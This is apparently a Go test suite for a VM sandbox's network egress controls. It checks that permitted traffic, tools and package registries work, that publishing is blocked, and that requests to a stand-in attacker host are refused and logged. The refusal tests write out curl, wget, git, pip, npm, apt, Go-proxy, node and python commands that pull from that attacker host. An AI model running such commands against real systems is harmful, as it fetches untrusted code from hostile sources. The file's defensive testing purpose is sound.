package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/carrel-vm/carrel/guest/egress/egresstest"
)

// What was allowed works, through the passed and the inspected way, for all
// that HTTP can carry. It is the control of every case that follows.
func testEgressWorks(t *testing.T, s *site) {
	for url, want := range map[string]string{
		"https://" + egresstest.Origin + "/":     "this is " + egresstest.Origin,
		"https://" + egresstest.Second + "/":     "this is " + egresstest.Second,
		"http://" + egresstest.Origin + ":8080/": "this is " + egresstest.Origin + ":8080",
		"http://" + egresstest.Second + "/":      "this is " + egresstest.Second,
		"https://" + egresstest.V6Only + "/":     "this is " + egresstest.V6Only,
	} {
		if got := s.plain(t, "get", url)[url]; !strings.Contains(got, want) {
			t.Errorf("%s: %s", url, got)
		}
	}
	const n = 3 << 20
	for _, host := range []string{egresstest.Origin, egresstest.Second} {
		steps := few(s, 2, []struct{ script, want string }{
			{`curl -sS https://%[1]s/bytes/%[2]d -o /tmp/big https://%[1]s/bytes/%[2]d -o /tmp/again && sha256sum < /tmp/again`, egresstest.Sum(n)},
			{`curl -sS -H 'Expect: 100-continue' --data-binary @/tmp/big -w '%%{http_version}\n' https://%[1]s/upload`, egresstest.Sum(n) + "\n2\n"},
			{`curl -sS --http1.1 -o /dev/null -w '%%{http_version}\n' https://%[1]s/`, "1.1\n"},
			{`node -e 'const c = require("http2").connect("https://%[1]s"); const r = c.request({":path": "/grpc", ":method": "POST"}); r.on("trailers", (t) => { console.log("grpc-status", t["grpc-status"]); c.close() }); r.end("ping"); r.resume()'`, "grpc-status 0"},
			{`(curl -sSN https://%[1]s/sse; echo) | { read -r a; read -r b; read -r c; echo "$a, $c"; curl -sS https://%[1]s/sse/go; cat; }`, "data: event 1, data: event 2\n\ndata: event 3\n"},
			{`node -e 'const w = new WebSocket("wss://%[1]s/ws"); w.onopen = () => w.send("hello"); w.onmessage = (m) => { console.log("ws", m.data); w.close() }; w.onerror = (e) => console.log(e.message)'`, "ws hello"},
		})
		for _, x := range steps {
			args := []any{host, n}
			if !strings.Contains(x.script, "%[2]") {
				args = args[:1]
			}
			if got := s.sh(t, fmt.Sprintf(x.script, args...)); !strings.Contains(got, x.want) {
				t.Errorf("%s: %s\ngives %q", host, x.script, got)
			}
		}
	}
	// Half-close: the answer comes after the question's end.
	if got := s.plain(t, "half", egresstest.Origin+":8080")[egresstest.Origin+":8080"]; !strings.Contains(got, "this is") {
		t.Errorf("half-close: %s", got)
	}
	s.quiet(t, egresstest.Origin, egresstest.Second, egresstest.V6Only)
}

// The tools work unchanged: none is told of a proxy or a certificate.
func testEgressTools(t *testing.T, s *site) {
	for name, x := range map[string]struct{ script, want string }{
		"curl":   {"curl -sS https://%s/", "this is"},
		"wget":   {"wget -q -O - https://%s/", "this is"},
		"node":   {`node -e 'fetch("https://%s/").then(r => r.text()).then(console.log)'`, "this is"},
		"python": {`python3 -c 'import urllib.request as u; print(u.urlopen("https://%s/").read().decode())'`, "this is"},
		"static": {"/tools/plain get https://%s/", "this is"},
	} {
		for _, host := range few(s, 1, []string{egresstest.Second, egresstest.Origin}) {
			if got := s.sh(t, fmt.Sprintf(x.script, host)); !strings.Contains(got, x.want) {
				t.Errorf("%s of %s: %s", name, host, got)
			}
		}
	}
	// A remote over ssh is rewritten, so that rules and secrets apply.
	for _, from := range few(s, 1, []string{"git@github.com:" + egresstest.PublicRepository + ".git", "https://github.com/" + egresstest.PublicRepository, "ssh://git@github.com/" + egresstest.PublicRepository}) {
		if r := s.sh(t, "cd /tmp && rm -rf public && git clone -q "+from+" public && cat public/README"); r != egresstest.GitContent {
			t.Errorf("git clone %s: %s", from, r)
		}
	}
}

// The package managers work through the preset.
func testEgressRegistries(t *testing.T, s *site) {
	write(t, filepath.Join(s.tools, "go.mod"), "module x\n\ngo 1.20\n\nrequire "+egresstest.GoModule+" v1.0.0\n")
	write(t, filepath.Join(s.tools, "go.sum"), s.net.Registry.GoSum())
	for _, f := range []string{"go.mod", "go.sum"} {
		defer os.Remove(filepath.Join(s.tools, f))
	}
	for _, x := range []struct{ name, user, script string }{
		{"npm", "", "mkdir -p /tmp/npm && cd /tmp/npm && npm install --loglevel=error " + egresstest.NPMPackage + " && cat node_modules/" + egresstest.NPMPackage + "/index.js"},
		{"go", "", "mkdir -p /tmp/go && cd /tmp/go && cp /tools/go.* . && go mod download && cat ~/go/pkg/mod/" + egresstest.GoModule + "@v1.0.0/word.go"},
		{"pip", "", "mkdir -p /tmp/pip && cd /tmp/pip && pip download -q --no-deps " + egresstest.PyPIPackage + " && unzip -p *.whl carrel_word.py"},
		{"apt", "root", `echo 'deb [trusted=yes] http://deb.debian.org/debian bookworm main' > /tmp/sources.list
			apt="apt-get -q -o Dir::Etc::sourcelist=/tmp/sources.list -o Dir::Etc::sourceparts=/dev/null -o APT::Sandbox::User=root"
			$apt update && $apt install -y ` + egresstest.DebianPackage + ` && cat /usr/share/carrel-word/word`},
	} {
		if got := sh(t, s.c, s.guest, x.user, x.script); got.status != 0 || !strings.Contains(got.out, egresstest.PackageWord) {
			t.Errorf("%s: status %d\n%s", x.name, got.status, got.out)
		}
	}
	// Reading only: what would publish does not arrive.
	before := len(s.net.Host("registry.npmjs.org").Requests())
	if got := s.sh(t, "curl -sS -X PUT -d '{}' https://registry.npmjs.org/"+egresstest.NPMPackage+" -w '%{http_code}'"); !strings.Contains(got, "403") {
		t.Errorf("a PUT to the registry: %s", got)
	}
	if after := len(s.net.Host("registry.npmjs.org").Requests()); after != before {
		t.Errorf("%d requests reached the registry that may not", after-before)
	}
}

// What each tool shows when it is refused: it fails at once, and where the
// protocol can carry the reason, the reason is there.
func testEgressRefusals(t *testing.T, s *site) {
	const reason = "egress to " + egresstest.Attacker
	for _, x := range few(s, 5, []struct{ name, user, script, want string }{
		{"static", "", "/tools/plain get https://" + egresstest.Attacker + "/", "access denied"},
		{"curl", "", "curl -sS https://" + egresstest.Attacker + "/", "access denied"},
		{"curl in clear", "", "curl -sS http://" + egresstest.Attacker + "/", reason},
		{"curl inspected", "", "curl -sS -X DELETE https://registry.npmjs.org/x", "carrel: "},
		{"git over ssh", "", "GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no -o BatchMode=yes' git clone git@" + egresstest.Attacker + ":x /tmp/x", reason},
		{"wget", "", "wget -q -O - https://" + egresstest.Attacker + "/ || wget -O - http://" + egresstest.Attacker + "/", "403"},
		{"git", "", "GIT_TERMINAL_PROMPT=0 git clone https://" + egresstest.Attacker + "/x /tmp/x", "denied"},
		{"pip", "", "pip download --retries 0 --index-url https://" + egresstest.Attacker + "/simple x", "ACCESS_DENIED"},
		{"npm", "", "npm view --fetch-retries=0 --registry https://" + egresstest.Attacker + "/ x", "access denied"},
		{"npm in clear", "", "npm view --fetch-retries=0 --registry http://" + egresstest.Attacker + "/ x", reason},
		{"apt", "root", `echo 'deb [trusted=yes] http://` + egresstest.Attacker + `/debian bookworm main' > /tmp/sources.list
			apt-get -q -o Acquire::Retries=0 -o Dir::Etc::sourcelist=/tmp/sources.list -o Dir::Etc::sourceparts=/dev/null -o APT::Sandbox::User=root update`, reason},
		{"go", "", "cd /tmp && GOPROXY=https://" + egresstest.Attacker + " GONOSUMDB='*' GOFLAGS=-mod=mod go mod download example.com/x@v1.0.0", "access denied"},
		{"node", "", `node -e 'fetch("https://` + egresstest.Attacker + `/").catch(e => console.log(e.cause.code))'`, "ACCESS_DENIED"},
		{"python", "", `python3 -c 'import urllib.request as u; u.urlopen("https://` + egresstest.Attacker + `/")'`, "ACCESS_DENIED"},
	}) {
		got := sh(t, s.c, s.guest, x.user, "timeout 300 sh -c '"+strings.ReplaceAll(x.script, "'", `'\''`)+"'")
		t.Logf("%s: status %d\n%s", x.name, got.status, strings.TrimSpace(got.out))
		if !strings.Contains(got.out, x.want) {
			t.Errorf("%s does not say %q: %s", x.name, x.want, got.out)
		}
		if got.status == 124 {
			t.Errorf("%s hangs", x.name)
		}
	}
	// The reason and its cure, in the guest's file, in the task's transcript and
	// for the user.
	if got := s.sh(t, "cat /run/carrel/refusals.log"); !strings.Contains(got, egresstest.Attacker+":443") {
		t.Errorf("refusals.log: %.2000s", got)
	}
	text, _ := s.carrel(t, "exec", s.guest, "--", "curl", "-s", "https://"+egresstest.Attacker+":443/once-more")
	if !strings.Contains(text, "carrel") || !strings.Contains(text, egresstest.Attacker) {
		t.Errorf("the transcript: %q", text)
	}
	text, status := s.carrel(t, "egress", s.guest)
	if status != 0 || !strings.Contains(text, "carrel allow "+s.guest+" "+egresstest.Attacker) {
		t.Errorf("carrel egress: status %d\n%.4000s", status, text)
	}
	s.quiet(t, "registry.npmjs.org")
	if n := s.net.DNS.Asked(egresstest.Attacker); n != 0 {
		t.Errorf("the attacker's name was looked up %d times", n)
	}
}
